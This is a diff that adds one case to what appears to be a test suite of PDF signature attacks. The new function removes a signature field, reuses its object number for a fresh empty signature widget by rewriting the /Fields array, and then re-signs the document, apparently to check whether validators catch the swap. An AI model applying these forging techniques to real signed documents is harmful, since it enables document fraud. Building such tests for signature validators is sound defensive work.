@@ -105,6 +105,17 @@ def _taken_out(victims: Victims) -> bytes:
     return victims.signing.sign(emptied, field="Seal2", page=1)
 
 
+@attack("the signature taken out and its number used again", OURS)
+def _number_used_again(victims: Victims) -> bytes:
+    number, form = form_object(victims.plain)
+    again = signature_number(victims.plain)
+    other = b"<</FT/Sig/T(Seal2)/Type/Annot/Subtype/Widget/Rect[0 0 0 0]/P 6 0 R>>"
+    emptied = re.sub(rb"/Fields\s*\[[^\]]*\]", b"/Fields[%d 0 R]" % again, form)
+    return victims.signing.sign(
+        append(victims.plain, {number: emptied, again: other}), field="Seal2", box=None
+    )
+
+
 @attack("the signature taken out and called a reader maker's rights", OURS)
 def _as_usage_rights(victims: Victims) -> bytes:
     number, form = form_object(victims.plain)
